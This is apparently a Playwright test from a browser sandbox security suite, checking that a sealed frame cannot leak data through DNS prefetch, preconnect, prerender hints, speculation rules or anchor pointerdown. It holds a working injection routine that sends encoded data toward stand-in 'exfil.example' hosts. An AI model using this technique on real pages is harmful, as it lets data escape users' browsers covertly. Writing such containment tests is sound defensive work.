import type { Frame } from 'playwright-core';
import type { Attack } from '../attack.ts';
import { holds, same } from '../expect.ts';

/** Asks for names that carry data, and for connections nobody uses. */
function hint([evil, mark]: readonly [string, string]): void {
  for (const rel of ['dns-prefetch', 'preconnect', 'prerender', 'prefetch', 'next']) {
    for (const href of [`//${rel}.${mark}.exfil.example`, evil]) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = href;
      document.head.append(link);
    }
  }
  const control = document.createElement('meta');
  control.httpEquiv = 'x-dns-prefetch-control';
  control.content = 'on';
  document.head.append(control);
  for (const kind of ['prefetch', 'prerender']) {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ [kind]: [{ source: 'list', urls: [`${evil}/18/${kind}`] }] });
    document.head.append(rules);
  }
  const link = document.createElement('a');
  link.href = `https://anchor.${mark}.exfil.example/`;
  link.textContent = 'link';
  document.body.append(link);
  link.dispatchEvent(new PointerEvent('pointerdown', { bubbles: true }));
}

export const attack: Attack = {
  id: '18',
  group: 'exfiltration',
  title: 'let name look-ups and unused connections carry data (dns-prefetch, preconnect, speculation rules)',
  expected: 'no look-up in the browser’s own network log, no connection to the witness',
  async judge({ open, witness, world }) {
    const log = await world.networkLog();
    const lab = await open({ context: log.context });
    const frame = lab.frame() as Frame;
    witness.forget();
    await frame.evaluate(hint, [witness.origin, 'sealed'] as const);
    await lab.page.waitForTimeout(1500);
    same(witness.hits().length, 0, 'signs at the witness');

    const ordinary = await log.context.newPage();
    await ordinary.goto(witness.controlPage());
    await ordinary.evaluate(hint, [witness.origin, 'ordinary'] as const);
    await ordinary.waitForTimeout(1500);
    witness.forget();
    const text = await log.read();
    holds(text.includes('dns-prefetch.ordinary.exfil.example'), 'the network log did not hear the control');
    const names = text.match(/[a-z-]+\.sealed\.exfil\.example/g) ?? [];
    same([...new Set(names)], [], 'names looked up');
  },
};
